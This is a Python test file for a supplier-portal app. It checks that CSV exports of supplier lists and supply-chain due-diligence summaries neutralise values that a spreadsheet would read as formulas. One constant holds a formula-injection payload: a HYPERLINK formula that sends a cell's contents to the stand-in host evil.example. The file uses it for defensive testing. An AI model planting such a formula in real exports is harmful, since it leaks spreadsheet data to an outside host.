"""Supplier fields that look like formulas reach the purchaser's spreadsheet as text."""

import csv
import io

from transferhub.suppliers import services
from transferhub.suppliers.models import LksgRisk

ATTACK = '=HYPERLINK("https://evil.example/?s="&A2;"Profil")'


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_result_list_escapes_formulas_in_every_field(client_for, purchaser, supplier, seal):
    supplier.products = ATTACK
    supplier.contact_name = "@Einkauf"
    supplier.contact_phone = "+49 241 123456"
    supplier.save()
    response = client_for(purchaser.user).get("/lieferanten/export.csv", {"q": "muster"})
    header, row = csv_rows(response)[:2]
    fields = dict(zip(header, row, strict=True))
    assert fields["Name"] == "Muster Metall GmbH"
    assert fields["Produkte und Leistungen"] == "'" + ATTACK
    assert fields["Ansprechperson"] == "'@Einkauf"
    assert fields["Telefon"] == "'+49 241 123456"


def test_the_lksg_summary_escapes_formulas_in_the_measures(
    client_for, supplier, purchaser, company_user, django_capture_on_commit_callbacks
):
    request = services.due_diligence_request(
        purchaser=purchaser, supplier=supplier, actor=purchaser.user
    )
    for risk in LksgRisk.values:
        services.risk_declare(
            supplier=supplier, risk=risk, status="no_risk", measures="-Audit", actor=company_user
        )
    with django_capture_on_commit_callbacks(execute=True):
        client_for(company_user).post(f"/lieferanten/anfragen/{request.pk}/beantworten/")
    response = client_for(purchaser.user).get(
        f"/lieferanten/anfragen/{request.pk}/zusammenfassung.csv"
    )
    rows = csv_rows(response)
    assert rows[0] == ["Lieferant", "Muster Metall GmbH"]
    assert {r[2] for r in rows[4:]} == {"'-Audit"}
